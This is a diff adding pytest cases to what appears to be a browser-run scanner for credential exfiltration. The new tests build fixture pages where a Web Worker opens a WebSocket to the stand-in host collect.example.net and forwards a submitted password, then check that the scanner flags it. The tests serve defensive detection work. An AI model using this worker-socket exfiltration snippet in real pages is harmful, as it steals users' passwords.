@@ -1,6 +1,7 @@
 """Each row of the verdict table, on pages in the enclosed browser."""
 
 import base64
+import json
 
 import pytest
 
@@ -142,6 +143,35 @@ def test_a_password_to_anothers_host(browser: Browser, way: str, encoding: str) 
     assert report.verdict == "malicious"
     assert "password-to-another" in keys(report)
     assert (way, "collect.example.net", encoding) in ways(report)
+
+
+WORKER = "onmessage=e=>{const w=new WebSocket('wss://collect.example.net/w');w.onopen=()=>w.send(e.data)}"
+
+
+@pytest.mark.parametrize("made", ["'w.js'", f"URL.createObjectURL(new Blob([{json.dumps(WORKER)}]))"])
+def test_a_password_through_a_workers_socket(browser: Browser, made: str) -> None:
+    source = page("Garden club", FORM, f"const w=new Worker({made});" + SUBMITS % "w.postMessage(s)")
+    script = Answer(WORKER.encode(), headers={"content-type": "text/javascript"})
+    report = probed(browser, {HOST: source, HOST + "w.js": script})
+    assert ("websocket", "collect.example.net", "plain") in ways(report)
+    assert "password-to-another" in keys(report)
+
+
+def test_a_worker_asks_as_if_from_its_own_place(browser: Browser) -> None:
+    script = "importScripts('more.js');fetch('log?n='+more).then(a=>a.text()).then(postMessage)"
+    source = page("Garden club", FORM, "new Worker('/w/own.js').onmessage=e=>document.title=e.data")
+    text = {"content-type": "text/javascript"}
+    root = "https://update.victim-site.test/w/"
+    report = probed(
+        browser,
+        {
+            HOST: source,
+            root + "own.js": Answer(script.encode(), headers=text),
+            root + "more.js": Answer(b"var more=7", headers=text),
+            root + "log?n=7": Answer(b"told", headers=text),
+        },
+    )
+    assert {view.title for view in report.views} == {"told"}
 
 
 @pytest.mark.parametrize(
